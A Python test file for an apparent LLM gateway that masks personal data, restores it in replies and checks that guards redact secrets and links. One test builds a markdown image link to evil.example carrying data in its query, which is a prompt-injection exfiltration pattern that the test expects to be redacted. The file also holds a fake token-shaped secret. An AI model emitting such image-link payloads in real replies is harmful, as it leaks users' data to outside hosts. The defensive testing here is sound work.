"""What is taken out of a request and put back into its answer, in real calls: both drivers, whole and streamed, however it is cut."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from itertools import takewhile
from pathlib import Path
from typing import Any

import pydantic
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from saferoute.errors import GuardBlocked, OutputInvalid, StreamInterrupted
from saferoute.guards import Action, LinkGuard, SecretsGuard
from saferoute.testing.script import RawAnswer
from saferoute.values.events import Finished, TextDelta
from saferoute.values.messages import Message, Text
from tests.support.balanced import Bed, bed, slowly, until
from tests.support.both import KINDS, Face
from tests.support.counting_server import CountingServer, Received, fails, says
from tests.support.guarded import Stopping, Words
from tests.support.guarded_calls import LOOK, asks_tool, guarded
from tests.support.reversible import issued_in, repeats, reversible

ROUTE = "here/m"
ADA = "ada@example.org"
ASKED = f"write to {ADA}, not to bob"
KEY = "gh" + "p_" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5"  # of the form of a key, and none


@pytest.fixture
def server() -> Iterator[CountingServer]:
    with CountingServer(says("fine")) as running:
        yield running


@pytest.fixture
def world(tmp_path: Path) -> Iterator[Bed]:
    with bed(tmp_path) as made:
        yield made


@pytest.fixture(params=KINDS)
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(params=[False, True], ids=["whole", "stream"])
def stream(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


def people(*, quick: bool = True) -> Stopping:
    """Takes people out of what goes in."""
    return Stopping(ADA, "bob", name="people", kind="pii.person", stages=["input", "tool_result"], quick=quick)


def opened(kind: str, server: CountingServer, *guards: Any, restores: tuple[str, ...] = ()) -> Face:
    return reversible(guarded(kind, server, people(), *guards), "people", restores=restores)


def call(face: Face, messages: Any, *, stream: bool, route: str = ROUTE, **options: Any) -> Any:
    """The reply, streamed or not; of a stream what was shown is what it holds."""
    if not stream:
        return face.chat(route, messages, **options)
    events = face.stream(route, messages, **options)
    last = events[-1]
    assert isinstance(last, Finished)
    assert "".join(one.text for one in events if isinstance(one, TextDelta)) == last.reply.text
    return last.reply


def test_values_leave_as_placeholders_and_come_back(kind: str, stream: bool, server: CountingServer) -> None:
    server.script(repeats("Dear %1, greet %2; see https://e.example/%1", range(0, 80, 3)))
    with opened(kind, server) as face:
        reply = call(face, ASKED, stream=stream)
    issued = issued_in(server.received[0])
    assert server.bodies[0]["messages"][0]["content"] == f"write to {issued[0]}, not to {issued[1]}"
    assert reply.text == f"Dear {ADA}, greet bob; see https://e.example/{issued[0]}"
    assert [message.text for message in reply.messages] == [ASKED, reply.text]


def test_a_conversation_goes_on(kind: str, stream: bool, server: CountingServer) -> None:
    server.script(repeats("Dear %1, hi"))
    with opened(kind, server) as face:
        first = call(face, [Message("system", (Text("Be bob."),)), Message("user", (Text(ASKED),))], stream=stream)
        second = call(face, [*first.messages, Message("user", (Text("again"),))], stream=stream)
    old, new = (issued_in(received) for received in server.received)
    assert [len(old), len(new), len({*old, *new})] == [2, 2, 4]
    assert second.text == "Dear bob, hi"
    assert [message.text for message in second.messages] == ["Be bob.", ASKED, "Dear bob, hi", "again", "Dear bob, hi"]


def test_what_is_gone_for_good_stays_gone(kind: str, stream: bool, server: CountingServer) -> None:
    server.script(repeats("Dear %1, [redacted: secret.github]"))
    with reversible(guarded(kind, server, people(), SecretsGuard()), "people", "secrets") as face:
        reply = call(face, f"bob has {KEY}", stream=stream)
    assert KEY not in server.received[0].body.decode()
    assert reply.text.startswith("Dear bob, [redacted: secret.")
    assert KEY not in "".join(message.text for message in reply.messages)
    assert reply.messages[0].text.startswith("bob has [redacted: secret.")


def test_without_a_word_of_the_table_it_is_gone_for_good(kind: str, stream: bool, server: CountingServer) -> None:
    server.script(repeats("Dear [redacted: pii.person]"))
    with guarded(kind, server, people()) as face:
        reply = call(face, "I am bob", stream=stream)
    assert (issued_in(server.received[0]), reply.messages[0].text) == ([], "I am [redacted: pii.person]")


def test_a_stream_is_restored_at_every_chunking(kind: str, server: CountingServer) -> None:
    text = "«Dear» %1, `%1` hi %2"
    with opened(kind, server) as face:
        for cut in range(1, 75, 2):
            server.script(repeats(text, [cut, cut + 3]))
            reply = call(face, ASKED, stream=True)
            issued = issued_in(server.received[-1])[0]
            assert reply.text == f"«Dear» {ADA}, `{issued}` hi bob"


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    parts=st.lists(st.sampled_from(["%1", "%2", " ", "x", "`", "[", "](", ")", "https://e.example/", "falcon", "«SR:"]), max_size=10),
    cuts=st.lists(st.integers(0, 300), max_size=8),
)
def test_a_stream_gives_what_the_whole_gives(server: CountingServer, parts: list[str], cuts: list[int]) -> None:
    template = "".join(parts) + "."
    with opened("blocking", server, Words("falcon", stages=["output"])) as face:
        server.script(repeats(template, cuts))
        streamed = call(face, ASKED, stream=True).text
        whole = call(face, ASKED, stream=False).text
    first, second = (issued_in(received) for received in server.received[-2:])
    for old, new in zip(first, second, strict=True):
        streamed = streamed.replace(old, new)
    assert streamed == whole


def test_what_needs_no_verdict_is_shown_as_it_comes(kind: str, server: CountingServer) -> None:
    server.script(repeats("Dear you, %1, hi you", range(0, 60, 5)))
    with opened(kind, server) as face:
        face.stream(ROUTE, ASKED)
    shown = [event.text for event in face.seen if isinstance(event, TextDelta)]
    assert "".join(takewhile(lambda text: ADA not in text, shown)) == "Dear you, "
    assert len(shown) >= 4


def test_restored_text_is_judged_again(kind: str, stream: bool, server: CountingServer) -> None:
    """The model ends what a value begins: only together they are an image."""
    begin, seen = "![x](https://evil.example/?d=", "see %1 there) ok"
    people = Stopping(begin, name="people", kind="pii.person", stages=["input"])
    for slow in (False, True):
        server.script(repeats(seen, range(0, 60, 4)))
        links = LinkGuard() if not slow else Words("evil.example", name="links", kind="link.image", stages=["output"], quick=False)
        with reversible(guarded(kind, server, people, links), "people") as face:
            reply = call(face, f"say {begin}", stream=stream)
        assert ("evil.example" in reply.text, "[redacted: link.image]" in reply.text) == (False, True)
        assert [one.guard for one in reply.verdicts if one.stage == "output"] == ["links"]


def test_a_blocked_restored_text_is_not_shown(kind: str, stream: bool, server: CountingServer) -> None:
    server.script(repeats("hello you, dear %1, hi", range(0, 60, 4)))
    with opened(kind, server, Words(f"dear {ADA}", name="links", action=Action.BLOCK, stages=["output"])) as face:
        with pytest.raises(GuardBlocked) as caught:
            call(face, ASKED, stream=stream)
        shown = "".join(event.text for event in getattr(face, "seen", ()) if isinstance(event, TextDelta))
    assert "hello you, dear ".startswith(shown)
    assert [one.outcome for one in caught.value.attempts] == ["GuardBlocked"]


class Letter(pydantic.BaseModel):
    to: str
    url: str


def test_a_parsed_answer_has_values_in_its_strings(kind: str, stream: bool, server: CountingServer) -> None:
    name = 'b"o\\b'
    people = Stopping(name, name="people", kind="pii.person", stages=["input"])
    with reversible(guarded(kind, server, people), "people") as face:
        server.script(repeats('{"to": "%1", "url": "https://e.example/%1"}', range(0, 60, 4)))
        reply = call(face, f"write to {name}", stream=stream, output=Letter)
        issued = issued_in(server.received[-1])[0]
        assert reply.parsed == Letter(to=name, url=f"https://e.example/{issued}")
        assert json.loads(reply.text)["to"] == name
        server.script(repeats('{"%1": 1}'))
        with pytest.raises(OutputInvalid) as caught:
            call(face, f"write to {name}", stream=stream, output=Letter)
    assert name not in f"{caught.value}{caught.value.reply.text}"  # type: ignore[union-attr]


def test_what_a_stream_that_is_cut_off_has_shown_is_what_its_error_has(kind: str, server: CountingServer) -> None:
    def cut(received: Received) -> RawAnswer:
        whole = repeats("Dear %2, hi %1", [12, 14, 40, 46])(received)
        return replace(whole, pieces=whole.pieces[:-3], unfinished=True, end="close")

    server.script(cut)
    with opened(kind, server) as face, pytest.raises(StreamInterrupted) as caught:
        face.stream(ROUTE, ASKED)
    shown = "".join(event.text for event in face.seen if isinstance(event, TextDelta))
    assert caught.value.partial is not None
    assert caught.value.partial.text == shown
    assert shown == "Dear bob, hi "
    assert ADA not in shown
    assert "bob" not in f"{caught.value}{caught.value!r}{caught.value.partial!r}{caught.value.diagnostics()}"


def test_arguments_of_a_tool_that_the_table_names(kind: str, stream: bool, server: CountingServer) -> None:
    for restores, expected in (((), None), (("look",), ADA)):
        server.script(repeats('{"q": "%1"}', [4, 12, 30], asks_tool))
        with opened(kind, server, restores=restores) as face:
            reply = call(face, ASKED, stream=stream, tools=[LOOK])
        assert reply.tool_calls[0].parse() == {"q": expected or issued_in(server.received[-1])[0]}


def test_every_row_gets_the_same_request_and_every_answer_is_read_anew(world: Bed, kind: str, stream: bool) -> None:
    world.sign('targets = ["a", "b"]\nshadow = { target = "s", share = 1000, max_cost = "$1" }')
    world.a.script(fails(500))
    world.b.script(repeats("Dear %1, hi"))
    face = reversible(world.open(kind, guards=[people()], data="public"), "people")
    reply = call(face, [{"role": "user", "content": ASKED}], stream=stream, route="fast")
    assert reply.text == f"Dear {ADA}, hi"
    until(lambda: sum(world.counts) == 3, face)
    sent = [issued_in(one) for place in (world.a, world.b, world.s) for one in place.received]
    assert [len(one) for one in sent] == [2, 2, 2]
    assert len({tuple(one) for one in sent}) == 1


def test_a_hedged_answer_is_restored(world: Bed, kind: str) -> None:
    world.sign('targets = ["a", "b"]\nhedge = { after = "10ms" }')
    face = reversible(world.open(kind, guards=[people()]), "people")
    world.warm(face)
    world.a.script(slowly("late", 5.0))
    world.b.script(repeats("`x` Dear %1, hi"))
    assert face.chat("fast", ASKED).text == f"`x` Dear {ADA}, hi"
    assert issued_in(world.a.received[-1]) == issued_in(world.b.received[-1])


def test_slow_guards_and_retries(world: Bed, kind: str, stream: bool) -> None:
    world.sign('targets = ["a"]')
    world.a.script(fails(500), repeats("Dear %1, hi"))
    face = reversible(world.open(kind, guards=[people(quick=False), Stopping("zebra", quick=False)]), "people")
    assert call(face, ASKED, stream=stream, route="fast").text == f"Dear {ADA}, hi"


def test_embeddings_are_never_changed_silently(kind: str, server: CountingServer) -> None:
    with opened(kind, server) as face, pytest.raises(GuardBlocked, match="this text is sent whole or not at all"):
        face.wait(face.client.embed(ROUTE, [f"I am {ADA}"]))
    assert server.count == 0
